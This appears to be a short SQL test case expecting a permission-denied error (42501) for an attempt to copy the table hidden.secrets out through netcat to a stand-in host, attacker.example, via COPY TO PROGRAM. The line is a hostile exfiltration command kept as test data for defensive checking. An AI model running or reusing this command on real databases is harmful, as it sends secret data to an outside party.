-- expect: 42501
-- why: exfiltrate the hidden table through a shell command
COPY (SELECT * FROM hidden.secrets) TO PROGRAM 'nc attacker.example 4444'
